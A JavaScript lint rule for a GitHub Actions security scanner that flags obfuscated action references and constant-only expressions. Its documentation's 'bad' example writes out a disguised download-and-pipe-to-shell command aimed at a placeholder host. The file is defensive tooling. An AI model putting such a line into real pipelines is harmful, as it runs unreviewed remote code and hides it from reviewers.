import { defineRule } from './types.js';

export default defineRule({
  meta: {
    id: 'obfuscation',
    title: 'Obfuscated reference or no-op expression',
    severity: 'low',
    confidence: 'high',
    owasp: 'CICD-SEC-3',
    platforms: ['gha'],
    fixable: false,
    docs: {
      description:
        'A `uses:` path with `./`, `../` or doubled slashes inside it, or an expression that only yields a constant (`${{ \'curl\' }}`), hides what actually runs from reviewers and from tools that match names. Legitimate workflows have no reason for either.',
      bad: "- uses: actions/checkout/./@v4\n- run: ${{ 'cu' }}rl https://x | sh",
      good: '- uses: actions/checkout@<sha> # v4',
      remedy: 'Write the reference and the command plainly.',
    },
  },
  check({ pipeline, report }) {
    for (const ref of pipeline.references) {
      if (ref.kind !== 'action' && ref.kind !== 'reusable-workflow') continue;
      if (ref.pin === 'local') continue;
      const target = ref.raw.split('@')[0] ?? '';
      if (/\/\.\.?(\/|$)|\/\/|\/$/.test(target)) report({ span: ref.span, message: `\`${ref.raw.trim()}\` has a path that hides what it resolves to` });
    }
    for (const e of pipeline.expressions) {
      if (e.ast?.type === 'literal' && typeof e.ast.value === 'string') {
        // Starter templates use constant expressions as placeholders: worth a look, not an alarm.
        report({ span: e.span, message: `\`\${{${e.raw}}}\` only yields the constant '${e.ast.value}': write the text itself`, persona: 'pedantic' });
      }
    }
  },
});
